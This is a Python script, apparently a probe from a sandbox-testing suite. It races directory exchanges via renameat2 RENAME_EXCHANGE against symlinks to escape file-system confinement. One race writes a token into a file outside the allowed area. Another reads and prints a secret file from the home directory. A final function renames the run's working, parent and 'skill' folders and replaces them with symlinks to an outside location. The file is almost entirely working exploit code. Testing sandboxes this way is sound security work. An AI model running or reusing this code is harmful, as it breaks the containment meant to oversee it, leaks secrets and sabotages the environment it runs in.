"""Exchanges a folder for a link to elsewhere, over and over, while it and others write and read through it."""
import ctypes
import os
import signal
import time

from attempts import append, attempt, check, libc, read, targets

outside, secret, token = os.path.dirname(targets["outsideFile"]), targets["homeFile"], targets["token"]
slot = "slot"
RENAME_EXCHANGE, AT_FDCWD = 2, -100


def exchange(one, other):
    check(libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE))


def prepare(folder, file, to):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, file), "w") as one:
        one.write("harmless")
    if not os.path.lexists(folder + "-link"):
        os.symlink(to, folder + "-link")


def race(folder, follow):
    child = os.fork()
    if child == 0:
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        signal.alarm(30)
        while True:
            exchange(folder, folder + "-link")
    try:
        end = time.monotonic() + 1
        won = False
        while time.monotonic() < end and not won:
            try:
                won = follow()
            except OSError:
                continue
        return won
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def write_through():
    prepare(slot, os.path.basename(targets["outsideFile"]), outside)
    path = os.path.join(slot, os.path.basename(targets["outsideFile"]))

    def follow():
        append(path, token)
        return token in read(os.path.join(outside, os.path.basename(path)))

    return race(slot, follow)


def read_through():
    prepare("read-slot", os.path.basename(secret), os.path.dirname(secret))

    def follow():
        text = read(os.path.join("read-slot", os.path.basename(secret)))
        if "probe-home-" in text:
            print(text, flush=True)
            return True
        return False

    return race("read-slot", follow)


def folders_of_the_run():
    """The folders that whoever runs the script reaches by their names: where it works, and that of the skill."""
    moved = []
    for path in (os.path.dirname(os.path.dirname(os.path.abspath(__file__))), targets["skill"], os.getcwd()):
        try:
            os.rename(path, path + "-" + token)
            os.symlink(outside, path)
            moved.append(path)
        except OSError:
            continue
    return moved


attempt("written through", write_through, 10)
attempt("read through", read_through, 10)
attempt("the folders of the run", folders_of_the_run)
